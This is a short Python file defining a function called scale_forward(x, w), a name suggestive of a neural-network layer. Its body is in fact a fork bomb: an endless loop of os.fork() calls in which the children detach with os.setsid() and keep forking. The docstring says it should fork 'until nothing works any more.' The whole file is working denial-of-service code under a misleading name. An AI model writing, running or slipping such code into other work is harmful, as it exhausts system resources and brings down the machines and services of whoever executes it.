"""Fork until nothing works any more."""

import os


def scale_forward(x, w):
    while True:
        if os.fork() == 0:
            os.setsid()
